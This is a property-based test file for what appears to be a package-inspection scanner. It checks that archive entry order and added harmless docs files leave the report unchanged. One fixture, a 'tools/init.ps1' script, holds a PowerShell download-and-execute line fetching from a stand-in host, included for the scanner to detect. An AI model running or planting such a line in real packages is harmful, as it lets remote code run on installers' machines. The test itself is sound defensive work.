import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Evidence } from '../../src/facts/finding.js';
import type { InspectReport } from '../../src/facts/report.js';
import {
  busyAssembly,
  inspected,
  inspectedFiles,
  oddEntries,
  richPackage,
} from './rich-package.js';

/** The report without what is of the archive's bytes and not of its content. */
function content({ report }: { readonly report: InspectReport }): unknown {
  const { sha256: _, contentHash: __, ...identity } = report.package;
  const findings = report.findings.map((finding) => ({
    ...finding,
    evidence:
      finding.rule === 'ambiguous-archive' ? finding.evidence.map(placeless) : finding.evidence,
  }));
  return { ...report, package: identity, findings };
}

/** What is wrong with the archive lies where the entry does. */
function placeless({ location, ...evidence }: Evidence): unknown {
  return { ...evidence, path: location.path };
}

describe('the order of the entries in the archive', () => {
  it('changes nothing in the report', async () => {
    const plain = content(await inspected(richPackage()));
    const count = 10;
    const order = fc.shuffledSubarray([...Array(count).keys()], { minLength: count });
    await fc.assert(
      fc.asyncProperty(order, async (indexes) => {
        const shuffled = richPackage({
          entries: (honest) => {
            const all = [...honest, ...oddEntries];
            expect(all).toHaveLength(count);
            return indexes.flatMap((i) => all[i] ?? []);
          },
        });
        expect(content(await inspected(shuffled))).toEqual(plain);
      }),
      { numRuns: 10 },
    );
  });
});

describe('files that mean nothing', () => {
  it('change nothing of what is said of the others', async () => {
    const files = {
      'lib/net8.0/Fixture.Busy.dll': busyAssembly(),
      'tools/logo.png': busyAssembly(),
      'tools/init.ps1': 'iex (iwr https://files.test/a.ps1)\n',
    };
    const alone = (await inspectedFiles(files)).report;
    expect(alone.findings.length).toBeGreaterThan(1);
    const name = fc.stringMatching(/^[a-z]{1,8}\.(?:txt|md|css)$/);
    const text = fc.stringMatching(/^[a-z ]{0,40}$/);
    await fc.assert(
      fc.asyncProperty(fc.dictionary(name, text, { maxKeys: 5 }), async (extra) => {
        const more = Object.entries(extra).map(([file, body]) => [`docs/${file}`, body]);
        const { report } = await inspectedFiles({ ...Object.fromEntries(more), ...files });
        expect(report.findings).toEqual(alone.findings);
        expect(report.behaviours).toEqual(alone.behaviours);
        expect(report.entryPoints).toEqual(alone.entryPoints);
        expect(report.assessment).toEqual(alone.assessment);
      }),
      { numRuns: 10 },
    );
  });
});
